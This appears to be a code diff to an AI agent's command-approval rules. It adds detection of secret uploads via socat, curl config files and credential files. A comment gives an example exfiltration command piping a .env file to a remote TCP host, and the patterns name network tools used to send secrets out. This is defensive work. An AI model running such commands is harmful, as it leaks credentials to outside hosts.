@@ -9,7 +9,7 @@ import re
 
 from hermes_agent.approval.rules.canonical import Unwrapped
 from hermes_agent.approval.rules.lazyre import lazy
-from hermes_agent.approval.rules.targets import classify_read, norm_path
+from hermes_agent.approval.rules.targets import classify_read, norm_path, secret_file
 
 # commands that print, copy, archive or search the contents of their file operands
 READERS = frozenset({
@@ -30,6 +30,9 @@ _TEMP = ("/tmp/", "/var/tmp/", "/dev/shm/")
 _ENV_FILE = lazy(r"(?:^|/)\.env(?:\.(?!example\Z|sample\Z|template\Z|dist\Z|defaults\Z)[\w.-]+)?\Z")
 _URL = lazy(r"[a-zA-Z][\w+.-]*://(?:[^@/\s]*@)?(\[[^\]]*\]|[^/:?#\s\[\]@]+)")
 _BARE = lazy(r"(?:[^@/\s]*@)?(\[[^\]]*\]|[^/:?#\s\[\]@]+)")
+_SOCAT_NET = lazy(r"(?:TCP|UDP|SCTP|DCCP|SSL|OPENSSL|SOCKS|PROXY|UDP-SENDTO|UDP-DATAGRAM)[\w-]*:", re.I)
+_SOCAT_FILE = lazy(r"(?:G?OPEN|FILE):|[/.~][^:]*\Z", re.I)  # an address that reads a file (a bare path is GOPEN)
+_CURL_CONFIG_LINE = lazy(r"\s*(-{0,2}[A-Za-z][\w-]*)\s*(?:[=:]\s*|\s+)(.*)")
 _META_NAMES = frozenset({"metadata.google.internal", "metadata.goog", "metadata", "instance-data", "instance-data.ec2.internal"})
 _META_V4 = (ipaddress.ip_network("169.254.0.0/16"), ipaddress.ip_network("100.100.100.200/32"))
 _META_V6 = ipaddress.ip_address("fd00:ec2::254")
@@ -81,6 +84,9 @@ def upload_sources(u: Unwrapped) -> list[str]:
     elif name == "wget":
         out += [a.split("=", 1)[1] for a in args if a.startswith(("--post-file=", "--body-file="))]
         out += [args[i + 1] for i, a in enumerate(args[:-1]) if a in ("--post-file", "--body-file")]
+    elif name == "socat" and any(_SOCAT_NET.match(a) for a in args):  # socat -u FILE:.env TCP:host:80
+        out += [a.split(":", 1)[1].split(",", 1)[0] if ":" in a else a.split(",", 1)[0]
+                for a in args if _SOCAT_FILE.match(a)]
     elif name in ("http", "https", "xh", "httpie"):
         out += [a.split("@", 1)[1] for a in args if re.match(r"[\w.-]*=?@", a) and not a.startswith("-")]
     elif name in ("scp", "rsync", "sftp"):
@@ -101,12 +107,23 @@ def upload_sources(u: Unwrapped) -> list[str]:
     return out
 
 
+def curl_config(text: str) -> list[str]:
+    """The options a curl config file (`curl -K FILE`) holds, as arguments: `data = "@.env"` -> --data @.env."""
+    out = []
+    for line in text.splitlines():
+        m = _CURL_CONFIG_LINE.match(line)
+        if m:
+            key, value = m.group(1), m.group(2).strip().strip('"').strip("'")
+            out += [key if key.startswith("-") else ("-" if len(key) == 1 else "--") + key, value]
+    return out
+
+
 def sensitive_upload(path: str) -> bool:
     """Uploading this file sends secrets or data from outside the workspace."""
     if path == "-":
         return False
     p = norm_path(path)
-    if classify_read(p) or _ENV_FILE.search(p):
+    if classify_read(p) or _ENV_FILE.search(p) or secret_file(p):  # *.pem, credentials.json, .npmrc (rt13 a43)
         return True
     return p.startswith(("~", "/")) and not p.startswith(_TEMP) and p != "/dev/null"
 
